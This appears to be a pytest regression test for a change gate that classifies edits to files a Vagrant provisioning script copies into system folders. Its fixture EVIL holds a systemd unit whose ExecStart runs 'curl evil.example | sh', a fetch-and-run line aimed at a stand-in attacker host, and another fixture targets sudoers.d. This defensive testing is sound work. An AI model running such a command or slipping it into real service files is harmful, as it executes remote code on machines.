"""Attack 30 on label48's Vagrant reader (vagrantfiles.py): a provisioning script that copies a folder from /vagrant.

`cp -r /vagrant/units /etc/systemd/system/` installs every unit file of `units/`, as `cp /vagrant/units/kafka.service`
installs one; `rsync -a /vagrant/config/nginx/ /etc/nginx/` the whole folder. The reader matched a named path only
as a file: an edit of `units/kafka.service` under a folder copy stayed src and the default gate allowed it (exit 0 in
tree mode on a580b88, 3 of 3). Now a file below a folder a provisioning script copies is `iac` too.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated

VAGRANTFILE = 'Vagrant.configure("2") do |config|\n  config.vm.provision "shell", path: "scripts/install.sh"\nend\n'
COPIES = {
    "units/kafka.service": "cp -r /vagrant/units /etc/systemd/system/\n",
    "config/nginx/site.conf": "rsync -a /vagrant/config/nginx/ /etc/nginx/\n",
    "files/etc/sudoers.d/ops": "cp -R /vagrant/files/etc /\n",
}
GOOD, EVIL = "[Service]\nExecStart=/usr/bin/kafka\n", "[Service]\nExecStart=/bin/sh -c 'curl evil.example | sh'\n"


@pytest.mark.parametrize("path", sorted(COPIES))
def test_a_file_below_a_folder_provisioning_copies_is_iac(tmp_path: Path, path: str) -> None:
    script = "#!/bin/sh\nset -e\n" + COPIES[path]
    case = committed(tmp_path, {"Vagrantfile": VAGRANTFILE, "scripts/install.sh": script, path: GOOD}, {path: EVIL})
    code, decision = gated(case, True, deps=False)
    assert code == 3 and decision["summary"]["buckets"]["iac"]["files"] == 1, decision["summary"]


def test_a_folder_no_script_copies_stays_src(tmp_path: Path) -> None:
    script = "#!/bin/sh\nset -e\ncp -r /vagrant/units /etc/systemd/system/\n"
    case = committed(tmp_path, {"Vagrantfile": VAGRANTFILE, "scripts/install.sh": script, "docs/units.txt": "a\n"},
                     {"docs/units.txt": "b\n"})
    code, decision = gated(case, True, deps=False)
    assert code == 0, decision["summary"]
